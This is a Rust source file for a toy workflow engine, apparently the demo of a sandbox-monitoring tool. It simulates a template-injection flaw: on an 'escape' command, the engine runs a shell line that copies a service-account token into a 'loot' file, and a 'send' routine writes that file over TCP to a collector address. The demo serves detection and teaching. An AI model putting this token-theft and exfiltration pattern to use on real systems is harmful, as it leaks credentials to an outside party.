//! The toy workflow engine, its runner and its steps: this program under other names.
//!
//! The engine reads one word a line from standard input and answers with one. Its weakness is that of many real ones: an
//! expression in a workflow, meant to be evaluated in a runner, is evaluated by the engine itself.

use std::io::{self, BufRead, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

/// First argument of every process of the toy.
pub(super) const WORD: &str = "demo-toy";

/// A process of the toy: `enter CGROUP_PROCS PROGRAM …`, `engine`, `runner`, `step` or `send`. The exit code of the
/// process.
pub fn main(args: &[String]) -> u8 {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let result = match args.as_slice() {
        ["enter", procs, program, rest @ ..] => enter(Path::new(procs), program, rest),
        ["engine", folder, collector] => engine(Path::new(folder), collector),
        ["runner", folder] => runner(Path::new(folder)),
        ["step", folder] => step(Path::new(folder)),
        ["send", loot, collector] => send(Path::new(loot), collector),
        _ => Err(io::Error::other("this is a part of `sandwatch demo`; run that")),
    };
    match result {
        Ok(()) => 0,
        Err(error) => {
            crate::observe::complain(&format!("toy: {error}"));
            1
        }
    }
}

/// Enters the worker's cgroup and becomes the engine, as a container runtime would have it.
fn enter(procs: &Path, program: &str, args: &[&str]) -> io::Result<()> {
    // If the demo is killed, the engine goes with it.
    nix::sys::prctl::set_pdeathsig(nix::sys::signal::Signal::SIGKILL)?;
    std::fs::write(procs, std::process::id().to_string())?;
    Err(Command::new(program).args(args).exec())
}

fn engine(folder: &Path, collector: &str) -> io::Result<()> {
    for line in io::stdin().lock().lines() {
        let answer = match line?.as_str() {
            "normal" => outcome(start(folder, "toy-runner", "runner")),
            // The author wrote a "template"; the engine evaluates it with its own hands.
            "escape" => outcome(evaluate(folder, collector)),
            "quit" => return Ok(()),
            other => format!("failed: unknown word {other:?}"),
        };
        let mut out = io::stdout().lock();
        writeln!(out, "{answer}")?;
        out.flush()?;
    }
    Ok(())
}

fn outcome(result: io::Result<()>) -> String {
    result.map_or_else(|error| format!("failed: {error}"), |()| "done".into())
}

fn evaluate(folder: &Path, collector: &str) -> io::Result<()> {
    let script = format!(
        "cat {folder}/secrets/serviceaccount/token > {folder}/work/loot && \
         {folder}/bin/toy-step {WORD} send {folder}/work/loot {collector}",
        folder = folder.display()
    );
    wait(Command::new("/bin/sh").args(["-c", &script]))
}

fn runner(folder: &Path) -> io::Result<()> {
    start(folder, "toy-step", "step")
}

fn start(folder: &Path, program: &str, part: &str) -> io::Result<()> {
    wait(Command::new(folder.join("bin").join(program)).args([WORD, part]).arg(folder))
}

fn wait(command: &mut Command) -> io::Result<()> {
    let status = command.stdin(Stdio::null()).stdout(Stdio::null()).status()?;
    if status.success() {
        Ok(())
    } else {
        Err(io::Error::other(format!("{}: {status}", command.get_program().display())))
    }
}

/// What a step is for: read something, work, write something.
fn step(folder: &Path) -> io::Result<()> {
    let mut text = String::new();
    std::fs::File::open("/proc/self/status")?.read_to_string(&mut text)?;
    std::fs::write(folder.join("work/result"), format!("{} lines\n", text.lines().count()))
}

fn send(loot: &Path, collector: &str) -> io::Result<()> {
    let address: SocketAddr = collector.parse().map_err(io::Error::other)?;
    let loot = std::fs::read(loot)?;
    TcpStream::connect_timeout(&address, Duration::from_secs(2))?.write_all(&loot)
}
